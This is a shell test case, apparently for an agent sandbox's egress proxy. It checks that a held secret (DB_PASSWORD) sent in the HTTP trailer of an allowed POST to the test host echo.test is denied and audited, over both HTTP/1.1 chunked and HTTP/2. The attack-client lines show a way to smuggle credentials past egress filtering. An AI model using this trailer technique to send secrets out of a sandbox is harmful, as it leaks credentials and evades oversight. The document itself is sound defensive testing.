# S4: a held secret in an HTTP trailer of an allowed POST over HTTPS (HTTP/1.1 chunked, and HTTP/2)
# expect: fail
# audit: sidecar=egress decision=deny host=echo.test rule~held:
# audit-min: 2
# upstream-must-not-see: DB_PASSWORD
[ -x /tmp/bottle-test-attack ] || inconclusive "the attack client is not in the agent"
rc=1
/tmp/bottle-test-attack trailer-h1 echo.test /allowed/trailer "x-$DB_PASSWORD-x"
r=$?; [ "$r" = 97 ] && exit 97; [ "$r" = 0 ] && rc=0
/tmp/bottle-test-attack trailer-h2 echo.test /allowed/trailer "x-$DB_PASSWORD-x"
r=$?; [ "$r" = 97 ] && exit 97; [ "$r" = 0 ] && rc=0
exit $rc
